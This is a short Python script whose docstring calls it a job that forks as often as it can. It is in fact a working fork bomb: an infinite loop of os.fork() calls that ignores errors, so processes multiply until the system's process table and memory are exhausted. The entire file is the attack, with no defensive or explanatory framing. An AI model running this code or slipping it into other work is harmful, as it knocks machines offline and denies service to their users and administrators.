"""A job of which every process forks as often as it may, until somebody ends all of them."""

import os

while True:
    try:
        os.fork()
    except OSError:
        pass
